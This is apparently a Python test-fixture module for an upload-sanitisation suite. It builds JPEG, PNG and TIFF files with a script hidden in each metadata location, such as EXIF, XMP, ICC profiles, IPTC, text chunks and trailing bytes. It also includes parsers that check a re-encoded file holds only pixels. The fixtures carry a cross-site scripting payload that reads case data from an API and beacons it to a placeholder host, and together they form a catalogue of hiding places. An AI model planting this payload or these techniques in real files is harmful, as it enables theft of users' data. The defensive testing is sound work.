"""Hostile images: a script in every place a JPEG, a PNG or a TIFF can carry one, and the readers that say what a file
carries. Shared by the upload corpus (tests/icts/test_upload_corpus.py), the partners' attachments
(tests/cpms/test_partner_attachments.py) and the end-to-end check of what IDENT receives
(tests/integration/test_partner_request_flow.py).

`clean_structure(data)` is the other half: what a re-encoded file may contain at all (the segments, chunks and tags
an encoder writes for pixels), so a script hidden in compressed form (zTXt, iCCP) is caught too, not only a readable
one.
"""

from __future__ import annotations

import io
import re
import struct
import zlib

from PIL import Image, ImageCms, PngImagePlugin, TiffImagePlugin

MARK = b"CPMS-CORPUS"
SCRIPT = b"<script>fetch('/api/v1/cases/').then(r=>navigator.sendBeacon('//x',r))/*CPMS-CORPUS*/</script>"
HTML = b"<html><body>" + SCRIPT + b"</body></html>"


def _pixels(mode="RGB", size=(48, 32)):
    image = Image.new(mode, size)
    image.putdata([((x * 5) % 256, (y * 7) % 256, 90) if mode == "RGB" else (x * 5) % 256
                   for y in range(size[1]) for x in range(size[0])])
    return image


def _icc_with_script() -> bytes:
    """A real sRGB profile with the script after its tag data (the profile's bytes are the sender's to choose)."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + SCRIPT


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # ImageDescription
    exif[0x013B] = SCRIPT.decode()  # Artist
    exif[0x0131] = SCRIPT.decode()  # Software
    exif[0x0112] = 1  # Orientation (kept: applied to the pixels)
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\x00\x00\x00" + SCRIPT  # UserComment
    return exif


XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
       b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
       b"<dc:description>" + SCRIPT.replace(b"<", b"&lt;") + b"</dc:description></rdf:Description></rdf:RDF>"
       + HTML + b'</x:xmpmeta><?xpacket end="w"?>')


# --- JPEG ----------------------------------------------------------------------------------------------------


def _segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def _iptc_in_photoshop() -> bytes:
    caption = b"\x1c\x02\x78" + struct.pack(">H", len(SCRIPT)) + SCRIPT  # IPTC 2:120 caption
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(caption)) + caption
    return b"Photoshop 3.0\x00" + resource


def _jpeg(**save) -> bytes:
    out = io.BytesIO()
    _pixels().save(out, "JPEG", quality=90, **save)
    return out.getvalue()


def _jpeg_with_segments(*segments: bytes) -> bytes:
    data = _jpeg()
    return data[:2] + b"".join(segments) + data[2:]


JPEG_PLACES = {
    "comment (COM)": lambda: _jpeg(comment=SCRIPT),
    "EXIF (APP1): description, artist, software, user comment": lambda: _jpeg(exif=_exif().tobytes()),
    "XMP (APP1)": lambda: _jpeg(xmp=XMP),
    "ICC profile (APP2)": lambda: _jpeg(icc_profile=_icc_with_script()),
    "IPTC in a Photoshop block (APP13)": lambda: _jpeg_with_segments(_segment(0xED, _iptc_in_photoshop())),
    "a JFIF extension (APP0)": lambda: _jpeg_with_segments(_segment(0xE0, b"JFXX\x00\x13" + SCRIPT)),
    "a vendor block (APP15)": lambda: _jpeg_with_segments(_segment(0xEF, HTML)),
    "after the end of image (EOI)": lambda: _jpeg() + HTML,
    "a comment between the scans of a progressive JPEG": lambda: _between_scans(),
    "every place at once": lambda: jpeg_everything(),
}


def _between_scans() -> bytes:
    data = _jpeg(progressive=True)
    second_scan = data.index(b"\xff\xda", data.index(b"\xff\xda") + 2)
    return data[:second_scan] + _segment(0xFE, SCRIPT) + data[second_scan:]


def jpeg_everything() -> bytes:
    data = _jpeg(comment=SCRIPT, exif=_exif().tobytes(), xmp=XMP, icc_profile=_icc_with_script())
    extra = _segment(0xED, _iptc_in_photoshop()) + _segment(0xE0, b"JFXX\x00\x13" + SCRIPT) + _segment(0xEF, HTML)
    return data[:2] + extra + data[2:] + HTML


# --- PNG -----------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_with_chunks(before_idat: list[bytes] = (), after_idat: list[bytes] = (), tail: bytes = b"") -> bytes:
    out = io.BytesIO()
    _pixels().save(out, "PNG")
    data = out.getvalue()
    ihdr_end = 8 + 25
    iend = data.rindex(b"IEND") - 4
    return data[:ihdr_end] + b"".join(before_idat) + data[ihdr_end:iend] + b"".join(after_idat) + data[iend:] + tail


PNG_PLACES = {
    "text (tEXt)": lambda: _png_with_chunks([_chunk(b"tEXt", b"Comment\x00" + SCRIPT)]),
    "compressed text (zTXt)": lambda: _png_with_chunks([_chunk(b"zTXt", b"Description\x00\x00" + zlib.compress(HTML))]),
    "international text (iTXt), plain": lambda: _png_with_chunks([_chunk(b"iTXt", b"Title\x00\x00\x00en\x00Title\x00" + SCRIPT)]),
    "international text (iTXt), compressed": lambda: _png_with_chunks(
        [_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + zlib.compress(XMP))]),
    "EXIF (eXIf)": lambda: _png_with_chunks([_chunk(b"eXIf", _exif().tobytes())]),
    "ICC profile (iCCP)": lambda: _png_with_chunks([_chunk(b"iCCP", b"sRGB\x00\x00" + zlib.compress(_icc_with_script()))]),
    "a private chunk before the pixels": lambda: _png_with_chunks([_chunk(b"scRp", HTML)]),
    "text after the pixels": lambda: _png_with_chunks(after_idat=[_chunk(b"tEXt", b"Comment\x00" + SCRIPT)]),
    "a private chunk after the pixels": lambda: _png_with_chunks(after_idat=[_chunk(b"prVt", HTML)]),
    "after the end (IEND)": lambda: _png_with_chunks(tail=HTML),
    "a palette image with a script in its text": lambda: _palette_png(),
    "every place at once": lambda: png_everything(),
}


def png_everything() -> bytes:
    return _png_with_chunks(
        [_chunk(b"tEXt", b"Comment\x00" + SCRIPT), _chunk(b"zTXt", b"Description\x00\x00" + zlib.compress(HTML)),
         _chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + zlib.compress(XMP)), _chunk(b"eXIf", _exif().tobytes()),
         _chunk(b"iCCP", b"sRGB\x00\x00" + zlib.compress(_icc_with_script())), _chunk(b"scRp", HTML)],
        [_chunk(b"tEXt", b"Comment\x00" + SCRIPT), _chunk(b"prVt", HTML)], HTML)


def _palette_png() -> bytes:
    out = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    _pixels().convert("P").save(out, "PNG", pnginfo=info, transparency=0)
    return out.getvalue()


# --- TIFF ----------------------------------------------------------------------------------------------------

TEXT_TAGS = {269: "DocumentName", 270: "ImageDescription", 271: "Make", 272: "Model", 285: "PageName", 305: "Software",
             315: "Artist", 316: "HostComputer", 33432: "Copyright"}
BLOB_TAGS = {700: "XMP", 33723: "IPTC", 34377: "Photoshop", 65000: "a private tag"}


def _tiff(tags: dict, *, pages: int = 1, compression: str = "raw", tail: bytes = b"", icc: bytes | None = None) -> bytes:
    ifd = TiffImagePlugin.ImageFileDirectory_v2()
    for tag, value in tags.items():
        ifd[tag] = value
        if isinstance(value, bytes):
            ifd.tagtype[tag] = 7  # UNDEFINED
    out = io.BytesIO()
    extra = [_pixels() for _ in range(pages - 1)]
    save = {"icc_profile": icc} if icc else {}
    _pixels().save(out, "TIFF", tiffinfo=ifd, compression=compression, save_all=pages > 1, append_images=extra, **save)
    return out.getvalue() + tail


TIFF_PLACES = {
    **{f"{name} ({tag})": (lambda tag=tag: _tiff({tag: SCRIPT.decode()})) for tag, name in TEXT_TAGS.items()},
    **{f"{name} ({tag})": (lambda tag=tag: _tiff({tag: HTML})) for tag, name in BLOB_TAGS.items()},
    "ICC profile (34675)": lambda: _tiff({}, icc=_icc_with_script()),
    "EXIF (the whole block as tags)": lambda: _tiff(dict(_exif())),
    "after the last page": lambda: _tiff({}, tail=HTML),
    "every page of three, compressed": lambda: _tiff({270: SCRIPT.decode(), 700: HTML}, pages=3, compression="tiff_lzw"),
    "every place at once": lambda: tiff_everything(),
}


def tiff_everything() -> bytes:
    tags = {tag: SCRIPT.decode() for tag in TEXT_TAGS} | {tag: HTML for tag in BLOB_TAGS}
    return _tiff(tags, pages=2, icc=_icc_with_script(), tail=HTML)

# (format, place, builder): every entry must come out with nothing but pixels.
PLACES = ([("image/jpeg", place, build) for place, build in JPEG_PLACES.items()]
          + [("image/png", place, build) for place, build in PNG_PLACES.items()]
          + [("image/tiff", place, build) for place, build in TIFF_PLACES.items()])
FILENAMES = {"image/jpeg": "photo.jpg", "image/png": "photo.png", "image/tiff": "scan.tif"}


# --- what a file carries -----------------------------------------------------------------------------------------

# What an encoder writes for pixels and nothing else.
JPEG_MARKERS = {0xC0, 0xC1, 0xC2, 0xC4, 0xDB, 0xDD, 0xE0, 0xEE}  # SOF0-2, DHT, DQT, DRI, APP0 (JFIF only), APP14 (Adobe)
PNG_CHUNKS = {b"IHDR", b"PLTE", b"tRNS", b"pHYs", b"IDAT", b"IEND"}
TIFF_TAGS = {254, 256, 257, 258, 259, 262, 266, 273, 274, 277, 278, 279, 282, 283, 284, 296, 317, 320, 338, 339}


def jpeg_parts(data: bytes) -> tuple[list[tuple[int, bytes]], bytes]:
    """The marker segments before the image data, and what follows its one scan (the end-of-image marker, then
    nothing, in a file that carries only pixels)."""
    assert data[:2] == b"\xff\xd8", "not a JPEG"
    pos, segments = 2, []
    while True:
        assert data[pos] == 0xFF, f"no marker at {pos}"
        marker = data[pos + 1]
        length = struct.unpack(">H", data[pos + 2:pos + 4])[0]
        segments.append((marker, data[pos + 4:pos + 2 + length]))
        pos += 2 + length
        if marker == 0xDA:  # SOS: in the entropy-coded data 0xFF is stuffed (FF00) or a restart marker (FFD0-FFD7)
            following = re.compile(rb"\xff[^\x00\xd0-\xd7]").search(data, pos)
            if following.group() != b"\xff\xd9":  # a second scan, or a segment between scans: all of it is "after"
                return segments, data[following.start():]
            return segments, data[following.end():]


def png_chunks(data: bytes) -> tuple[list[bytes], bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    pos, kinds = 8, []
    while True:
        length = struct.unpack(">I", data[pos:pos + 4])[0]
        kind = data[pos + 4:pos + 8]
        kinds.append(kind)
        pos += 12 + length
        if kind == b"IEND":
            return kinds, data[pos:]


def tiff_tags(data: bytes) -> list[set[int]]:
    """Each page's tags."""
    image = Image.open(io.BytesIO(data))
    pages = []
    for index in range(getattr(image, "n_frames", 1)):
        image.seek(index)
        pages.append(set(image.tag_v2))
    return pages


def clean_structure(data: bytes) -> list[str]:
    """What a re-encoded file should not carry, in words; [] when it is pixels and nothing else."""
    found = []
    if MARK.lower() in data.lower() or b"<script" in data.lower():
        found.append("the script, readable in the bytes")
    if data[:2] == b"\xff\xd8":
        segments, tail = jpeg_parts(data)
        for marker, payload in segments[:-1]:
            if marker not in JPEG_MARKERS or (marker == 0xE0 and not payload.startswith(b"JFIF\x00")):
                found.append(f"JPEG segment 0x{marker:02X}")
        if tail:
            found.append(f"{len(tail)} bytes after the end of the image")
    elif data[:8] == b"\x89PNG\r\n\x1a\n":
        kinds, tail = png_chunks(data)
        found += [f"PNG chunk {k.decode(errors='replace')}" for k in kinds if k not in PNG_CHUNKS]
        if tail:
            found.append(f"{len(tail)} bytes after IEND")
    else:
        pages = tiff_tags(data)
        for number, tags in enumerate(pages, 1):
            found += [f"TIFF tag {t} on page {number}" for t in sorted(tags - TIFF_TAGS)]
    return found
